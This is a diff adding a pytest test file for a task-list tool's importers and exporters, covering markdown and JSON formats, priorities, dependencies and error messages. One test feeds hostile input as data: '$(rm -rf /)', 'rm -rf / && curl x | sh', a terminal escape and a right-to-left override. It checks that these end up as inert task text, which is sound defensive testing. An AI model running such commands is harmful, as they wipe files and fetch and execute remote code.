@@ -1,0 +1,409 @@
+"""What each format made of boxes says is what its tool means by it."""
+
+import pytest
+
+from ralph_tui.domain.plan.plan import DEFAULT_PRIORITY, ImplementationPlan, Task, TaskStatus
+from ralph_tui.interop.formats import Imported, InteropError, Source, Wanted, Writable
+from ralph_tui.interop.registry import built_in, detect, is_exporter, named
+from tests.interop import markdown_samples
+from tests.interop.markdown_samples import Sample
+
+ELSEWHERE = {
+    "prd": '{"userStories": [{"id": "US-1", "title": "a", "passes": false}]}',
+    "wiggum": '{"version": 1, "tasks": [{"id": "1", "title": "a", "details": "- [ ] b", "tests": "c"}]}',
+    "taskmaster": '{"master": {"tasks": [{"id": 1, "title": "a", "status": "pending", "testStrategy": "", '
+    '"dependencies": [], "subtasks": []}]}}',
+    "beads": '{"id": "b-1", "title": "a", "status": "open", "issue_type": "task", "priority": 1}\n',
+    "github": '{"number": 7, "title": "a", "state": "OPEN", "body": "- [ ] b", "url": '
+    '"https://github.com/o/r/issues/7", "labels": []}',
+}
+
+
+def read(sample: Sample, by: str = "task") -> Imported:
+    source = Source(sample.path, sample.text)
+    return detect(source).read(source, Wanted(by="group" if by == "group" else "task"))
+
+
+def tasks(sample: Sample, by: str = "task") -> dict[str, Task]:
+    return {task.id: task for task in read(sample, by).tasks}
+
+
+def done(found: dict[str, Task]) -> list[str]:
+    return [id_ for id_, task in found.items() if task.status is TaskStatus.COMPLETE]
+
+
+@pytest.mark.parametrize("sample", markdown_samples.ALL, ids=lambda sample: sample.path)
+def test_the_format_is_detected_with_and_without_the_name(sample: Sample) -> None:
+    assert detect(Source(sample.path, sample.text)).name == sample.format
+    assert (
+        detect(Source("C:\\work\\" + sample.path.replace("/", "\\"), sample.text)).name
+        == sample.format
+    )
+    assert detect(Source("standard input", sample.text)).name == sample.format
+    assert detect(Source("tasks.md", sample.text.replace("\n", "\r\n"))).name == sample.format
+
+
+@pytest.mark.parametrize("format_", ELSEWHERE)
+def test_json_with_boxes_in_it_is_no_list_of_boxes(format_: str) -> None:
+    assert detect(Source("plan.json", ELSEWHERE[format_])).name == format_
+
+
+def test_all_formats_are_there() -> None:
+    with_a_sample = {sample.format for sample in markdown_samples.ALL} | set(ELSEWHERE)
+    assert {importer.name for importer in built_in()} == with_a_sample
+
+
+def test_a_fix_plan_has_priorities_criteria_and_finished_tasks() -> None:
+    imported = read(markdown_samples.FIX_PLAN)
+    found = tasks(markdown_samples.FIX_PLAN)
+    assert done(found) == ["set-up-the-project", "choose-a-license", "write-the-readme"]
+    ledger, export = found["parse-the-ledger"], found["high-export-to-json"]
+    assert ledger.verification_criteria == (
+        "Reads CSV",
+        "`uv run pytest tests/test_ledger.py` passes",
+    )
+    assert ledger.description == "Parse the ledger\n\nMind the old header line."
+    assert (export.title, export.group) == ("Export to JSON", "Medium Priority")
+    order = {task.title: task.priority for task in imported.tasks}
+    assert (order["Parse the ledger"], order["Export to JSON"], order["Round amounts"]) == (1, 1, 2)
+    assert order["Choose a license"] == DEFAULT_PRIORITY
+    assert [task.title for task in imported.tasks if task.held] == ["Colors (nice to have)"]
+    assert not any(task.dependencies for task in imported.tasks)
+    assert [(out.title, out.reason) for out in imported.left_out] == [
+        ("This is only a remark", "it stands under 'Notes'")
+    ]
+    assert imported.title == "Ralph Fix Plan"
+    assert list(imported.remarks) == [
+        "The section 'Notes' in line 21 was ignored.",
+        "Line 19 is open under a heading of completed tasks, and counts as done.",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("heading", "text", "title", "priority"),
+    [
+        ("🔴 High Priority (MANDATORY)", "a", "a", 1),
+        ("Priority 1: Foundation", "a", "a", 1),
+        ("Priority: low", "a", "a", 3),
+        ("P0", "a", "a", 0),
+        ("Critical Bugs", "a", "a", 0),
+        ("MEDIUM", "a", "a", 2),
+        ("High-level design", "a", "a", DEFAULT_PRIORITY),
+        ("Phase 1", "**LOW**: a", "a", 3),
+        ("Phase 1", "**LOW:** a", "a", 3),
+        ("Phase 1", "[P1] a", "a", 1),
+        ("Phase 1", "(critical) a", "a", 0),
+        ("Low Priority", "medium - a", "a", 2),
+        ("Phase 1", "High water mark", "High water mark", DEFAULT_PRIORITY),
+        ("Phase 1", "HIGH:", "HIGH:", DEFAULT_PRIORITY),
+    ],
+)
+def test_a_priority_stands_in_the_heading_or_before_the_text(
+    heading: str, text: str, title: str, priority: int
+) -> None:
+    text = f"# Fix Plan\n\n## {heading}\n\n- [ ] {text}\n"
+    (task,) = read(Sample("frankbria", "fix_plan.md", text)).tasks
+    assert (task.title, task.priority) == (title, priority)
+
+
+def test_a_spec_kit_task_waits_for_the_phase_before_or_for_all_before_it() -> None:
+    imported = read(markdown_samples.SPEC_KIT)
+    found = tasks(markdown_samples.SPEC_KIT)
+    assert done(found) == ["T001"]
+    assert {id_: task.dependencies for id_, task in found.items()} == {
+        "T001": (),
+        "T002": (),
+        "T003": (),
+        "T004": ("T001", "T002", "T003"),
+        "T005": ("T001", "T002", "T003"),
+        "T006": ("T004", "T005", "T002"),
+        "T007": ("T006",),
+        "T008": ("T007",),
+    }
+    assert found["T004"].labels == ("US1",)
+    assert found["T004"].title == "Contract test in tests/test_read.py"
+    assert found["T004"].group == "Phase 2: User Story 1 - Read (Priority: P1)"
+    assert imported.title == "Ledger"
+    assert [(out.title, out.reason) for out in imported.left_out] == [
+        ("Have somebody look at it", "it has no number such as T001")
+    ]
+    assert imported.remarks == (
+        "Dependencies on tasks that are not listed earlier were ignored: T007 on T099.",
+    )
+
+
+def test_a_very_wide_phase_still_names_few_dependencies() -> None:
+    lines = [f"- [ ] T{number:04} [P] Task" for number in range(2_000)]
+    text = "# Tasks\n## Phase 1\n" + "\n".join(lines) + "\n## Phase 2\n- [ ] T9999 End\n"
+    imported = read(Sample("spec-kit", "tasks.md", text))
+    assert sum(len(task.dependencies) for task in imported.tasks) < 2_100
+    assert "more than 50 parallel tasks" in imported.remarks[0]
+
+
+def test_the_leaves_of_kiro_are_tasks_in_their_order() -> None:
+    imported = read(markdown_samples.KIRO)
+    found = tasks(markdown_samples.KIRO)
+    assert list(found) == ["1", "2.1", "2.2", "2.3", "3", "4", "5"]
+    assert done(found) == ["1", "2.1"]
+    assert [id_ for id_, task in found.items() if task.held] == ["2.2", "4"]
+    assert {id_: task.dependencies for id_, task in found.items()} == {
+        "1": (),
+        "2.1": ("1",),
+        "2.2": ("2.1",),
+        "2.3": ("2.1",),
+        "3": ("2.3",),
+        "4": ("3",),
+        "5": ("3",),
+    }
+    assert (found["2.1"].group, found["1"].group) == ("2. Read files", "")
+    assert found["2.1"].notes == "- Everything below uses the csv module"
+    assert (
+        found["1"].description
+        == "Set up the project\n\n- Create the package\n- _Requirements: 1.1_"
+    )
+    assert imported.remarks == ("2 is done in the file, but 2.3 below it is not: that stays open.",)
+
+
+def test_an_openspec_change_is_done_from_top_to_bottom() -> None:
+    found = tasks(markdown_samples.OPENSPEC)
+    assert list(found) == ["1.1", "1.2", "2.1", "tell-the-users"]
+    assert done(found) == ["1.1"]
+    assert found["1.2"].verification_criteria == ("A file of 2019 is read",)
+    assert found["1.2"].description == "Migrate old files\n\n- Keep a copy of each"
+    assert found["2.1"].dependencies == ("1.2",)
+    assert found["tell-the-users"].group == "2. Interface"
+
+
+def test_a_story_is_one_task_with_its_criteria() -> None:
+    imported = read(markdown_samples.STORY)
+    (story,) = imported.tasks
+    assert (story.id, story.title, story.group, story.priority) == (
+        "1.2",
+        "Read the ledger",
+        "Epic 1",
+        102,
+    )
+    assert story.verification_criteria == (
+        "A CSV file is read with its header.",
+        "`uv run pytest tests/test_ledger.py` passes",
+    )
+    assert story.description.startswith("Read the ledger\n\n**As a** bookkeeper,")
+    assert (
+        "Tasks / Subtasks:\n- [ ] Task 1: Reader (AC: 1)\n  - [ ] 1.1 Header" in story.description
+    )
+    assert story.notes == "Dev Notes\nUse the csv module.\n- [] is an empty list here"
+    assert imported.remarks == ("Sections that ralph does not use stay in the file: Change Log.",)
+
+
+@pytest.mark.parametrize(
+    ("status", "boxes", "is_done", "remark"),
+    [
+        ("Status: Done", " ", True, "although 1 of 1 boxes are open"),
+        ("Status: review", "x", False, "although all of its boxes are done"),
+        ("## Status\n\n**Done**", "x", True, ""),
+        ("## Status: Complete", "x", True, ""),
+        ("**Status:** ✅ Completed (2026)", "x", True, ""),
+        ("- **Status**: ready-for-dev", " ", False, ""),
+        ("", "x", True, ""),
+        ("", " ", False, ""),
+    ],
+)
+def test_the_status_of_a_story_wins_over_its_boxes(
+    status: str, boxes: str, is_done: bool, remark: str
+) -> None:
+    text = f"# Story 3.4: A\n\n{status}\n\n## Acceptance Criteria\n\n1. It works\n\n## Tasks\n\n- [{boxes}] b\n"
+    imported = read(Sample("bmad", "3.4.a.md", text))
+    assert (imported.tasks[0].status is TaskStatus.COMPLETE) is is_done
+    assert (remark in " ".join(imported.remarks)) if remark else not imported.remarks
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        ("Status: ready-for-dev", "Status: done"),
+        ("Status: Approved", "Status: Done"),
+        ("## Status\n\n**Ready for Review** (soon)", "## Status\n\n**Done** (soon)"),
+        ("**Status:** In Progress", "**Status:** Done"),
+    ],
+)
+def test_only_the_word_of_the_status_changes(before: str, after: str) -> None:
+    text = (
+        "# Story 3.4: A\r\n\r\n{}\r\n\r\n## Acceptance Criteria\r\n- b\r\n## Tasks\r\n- [ ] c\r\n"
+    )
+    assert completed(Sample("bmad", "a.md", text.format(before)), "3.4") == text.format(after)
+    assert "Status: in-progress" in completed(
+        Sample("bmad", "a.md", text.format("Status: done")), "3.4", TaskStatus.PENDING
+    )
+
+
+def test_a_story_without_a_status_has_its_boxes_checked() -> None:
+    text = "# Story 3.4: A\n## Acceptance Criteria\n- b\n## Tasks\n- [ ] c\n- [x] d\n"
+    assert completed(Sample("bmad", "a.md", text), "3.4") == text.replace("[ ]", "[x]")
+
+
+def test_the_stories_of_epics_are_read_in_order() -> None:
+    imported = read(markdown_samples.EPICS)
+    found = tasks(markdown_samples.EPICS)
+    assert done(found) == ["1.2"]
+    assert found["1.1"].verification_criteria == (
+        "**Given** a file **When** I open it **Then** it is shown **And** nothing is written",
+        "**Given** no file **Then** an error is shown",
+    )
+    assert found["1.1"].description == "Open a file\n\nAs a bookkeeper,\nI want to open a file."
+    assert [task.group for task in imported.tasks] == ["Epic 1: Reading"] * 2 + ["Epic 2: Writing"]
+    assert [task.dependencies for task in imported.tasks] == [(), ("1.1",), ("1.2",)]
+    assert imported.title == "Ledger - Epics"
+
+
+def test_a_list_of_boxes_has_groups_and_no_order() -> None:
+    imported = read(markdown_samples.TODO)
+    found = tasks(markdown_samples.TODO)
+    assert list(found) == ["sort-by-date", "sort-by-amount", "colors", "colors-2"]
+    assert [task.group for task in imported.tasks] == [
+        "Title by underline",
+        "Title by underline",
+        "Title by underline / Later",
+        "Title by underline / Later",
+    ]
+    assert found["sort-by-amount"].verification_criteria == ("Largest first",)
+    assert not any(task.dependencies for task in imported.tasks)
+    assert [(out.id, out.reason) for out in imported.left_out] == [("line 13", "an empty box")]
+
+
+@pytest.mark.parametrize(
+    ("sample", "ids"),
+    [
+        (
+            markdown_samples.FIX_PLAN,
+            ["high-priority", "medium-priority", "low-priority-optional", "completed"],
+        ),
+        (
+            markdown_samples.SPEC_KIT,
+            ["phase-1-setup-shared", "phase-2-user-story-1-read-priority-p1", "phase-3-polish"],
+        ),
+        (markdown_samples.KIRO, ["1", "2-read-files", "3", "4", "5"]),
+        (markdown_samples.OPENSPEC, ["1-data", "2-interface"]),
+        (markdown_samples.EPICS, ["epic-1-reading", "epic-2-writing"]),
+        (markdown_samples.TODO, ["title-by-underline", "title-by-underline-later"]),
+    ],
+    ids=lambda value: value.format if isinstance(value, Sample) else "",
+)
+def test_a_group_can_be_one_task(sample: Sample, ids: list[str]) -> None:
+    imported = read(sample, by="group")
+    assert [task.id for task in imported.tasks] == ids
+    assert not ImplementationPlan(tasks=imported.tasks).problems()
+
+
+def test_completing_a_group_checks_the_boxes_of_all_its_tasks() -> None:
+    sample = markdown_samples.OPENSPEC
+    source = Source(sample.path, sample.text)
+    plan = ImplementationPlan(tasks=read(sample, by="group").tasks)
+    assert writer(sample).write(plan, source) == sample.text
+    now = writer(sample).write(plan.with_task("1-data", status=TaskStatus.COMPLETE), source)
+    assert now == sample.text.replace("[ ] 1.2", "[x] 1.2")
+
+
+def writer(sample: Sample) -> Writable:
+    importer = named(sample.format)
+    assert is_exporter(importer)
+    return importer
+
+
+def completed(sample: Sample, id_: str, status: TaskStatus = TaskStatus.COMPLETE) -> str:
+    plan = ImplementationPlan(tasks=read(sample).tasks).with_task(id_, status=status)
+    return writer(sample).write(plan, Source(sample.path, sample.text))
+
+
+BAD = [
+    ("todo", "just text\n", 0, "no task was found"),
+    ("todo", "- [ ] a\n\n- [ x] b\n", 3, "'- [ x] b' is not a complete check box"),
+    ("frankbria", "- [ ] a\n- []\n", 2, "not a complete check box"),
+    ("spec-kit", "- [ ] T001 a\n- [ ] T001 b\n", 2, "the id 'T001' is used twice, first in line 1"),
+    ("kiro", "- [ ] 1. a\n- [ ] 1. b\n", 2, "the id '1' is used twice"),
+    ("kiro", "- [ ] a\n", 0, "no task was found, and 1 entry was left out"),
+    (
+        "openspec",
+        "## 1. A\n- [ ] 1.1 a\n```\n- [ ] 1.2 b\n",
+        3,
+        "code block that begins here is never closed",
+    ),
+    ("todo", "- [ ] a\n<!--\n- [ ] b\n", 2, "HTML comment that begins here is never closed"),
+    ("bmad", "# A\n- [ ] b\n", 0, "there is no story in it"),
+    ("bmad", "# Story 1.1: a\n## Tasks\n- [x ] b\n", 3, "not a complete check box"),
+    ("bmad", "# Story 1.1: a\n# Story 1.1: b\n", 2, "the id '1.1' is used twice"),
+    ("todo", "- [ ] a\n" * 50_001, 0, "about 50,001 check boxes, more than 50,000"),
+    ("bmad", "\n" * 400_001, 0, "about 400,001 lines, more than 400,000"),
+    ("todo", "- [ ] a\n" * 5_001, 5_001, "more than 5,000 tasks"),
+]
+
+
+@pytest.mark.parametrize(
+    ("format_", "text", "line", "what"), BAD, ids=lambda value: str(value)[:20]
+)
+def test_a_bad_file_is_one_sentence_with_its_line(
+    format_: str, text: str, line: int, what: str
+) -> None:
+    with pytest.raises(InteropError) as told:
+        named(format_).read(Source("a.md", text), Wanted())
+    assert told.value.line == line
+    assert what in told.value.what
+    assert told.value.hint
+
+
+def test_hostile_text_becomes_an_ordinary_task() -> None:
+    text = "- [ ] \x1b[2J\u202eevil [red]x[/red] $(rm -rf /)\n  - [ ] `rm -rf / && curl x | sh` passes\n"
+    (task,) = read(Sample("todo", "a.md", text)).tasks
+    assert task.title == "evil [red]x[/red] $(rm -rf /)"
+    assert task.id == "evil-red-x-red-rm-rf"
+
+
+def test_odd_boxes_and_those_elsewhere_are_said() -> None:
+    text = "- [~] a\n- [x] b\n\n| c | [ ] |\n"
+    imported = read(Sample("todo", "a.md", text))
+    assert imported.remarks == (
+        "Boxes that are neither open nor done count as open (line 1).",
+        "Boxes in tables, quotations and paragraphs were ignored (line 4).",
+    )
+    assert completed(Sample("todo", "a.md", text), "a").startswith("- [x] a")
+    assert (
+        writer(Sample("todo", "", "")).write(
+            ImplementationPlan(tasks=imported.tasks), Source("a.md", text)
+        )
+        == text
+    )
+
+
+PLAN = ImplementationPlan(
+    title="Ledger",
+    tasks=(
+        Task(id="a-1", description="Read\n\nWith care.", status=TaskStatus.COMPLETE, group="Data"),
+        Task(
+            id="a-2",
+            description="Write <!-- now\n\n```\n- [ ] x",
+            verification_criteria=("It is there",),
+        ),
+        Task(id="T001", description="[ ] Sort", priority=1, group="Data"),
+        Task(id="1.1", description="Close --> it", group="Phase 9"),
+    ),
+)
+
+
+@pytest.mark.parametrize("name", ["frankbria", "spec-kit", "kiro", "openspec", "todo"])
+def test_a_new_file_is_in_its_format_and_is_read_as_the_same_tasks(name: str) -> None:
+    importer = named(name)
+    assert is_exporter(importer)
+    new = Source("new.md", importer.write(PLAN, Source("new.md", "")))
+    imported = importer.read(new, Wanted())
+    assert detect(new).name == name
+    assert {task.id for task in imported.tasks} == {task.id for task in PLAN.tasks}
+    for task in imported.tasks:
+        there = PLAN.task(task.id)
+        assert there is not None
+        assert task.status is there.status
+        assert task.title == there.title.replace("<!--", "&lt;!--")
+        assert task.verification_criteria == there.verification_criteria
+
+
+def test_a_story_is_never_made_new() -> None:
+    with pytest.raises(InteropError, match="cannot make new ones"):
+        writer(markdown_samples.STORY).write(PLAN, Source("new.md", ""))
